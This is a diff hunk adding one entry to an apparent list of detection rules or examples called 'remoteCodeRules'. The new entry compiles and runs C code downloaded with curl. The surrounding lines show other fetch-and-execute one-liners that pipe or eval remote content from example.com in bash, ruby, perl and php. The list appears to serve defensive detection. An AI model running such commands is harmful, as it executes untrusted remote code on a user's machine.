@@ -120,6 +120,7 @@ export const remoteCodeRules: readonly Rule[] = [
         'curl -s https://example.com/x.sh | bash -s -- --yes',
         'source <(curl -s https://example.com/x.sh)',
         'curl -s https://example.com/a.tgz | tar xz && ./a/install.sh',
+        'curl -s https://example.com/a.c | gcc -x c -o /tmp/a - && /tmp/a',
         'ruby -ropen-uri -e \'eval URI.open("http://example.com/x").read\'',
         'perl -MLWP::Simple -e \'eval get("http://example.com/x")\'',
         'php -r \'eval(file_get_contents("http://example.com/x"));\'',
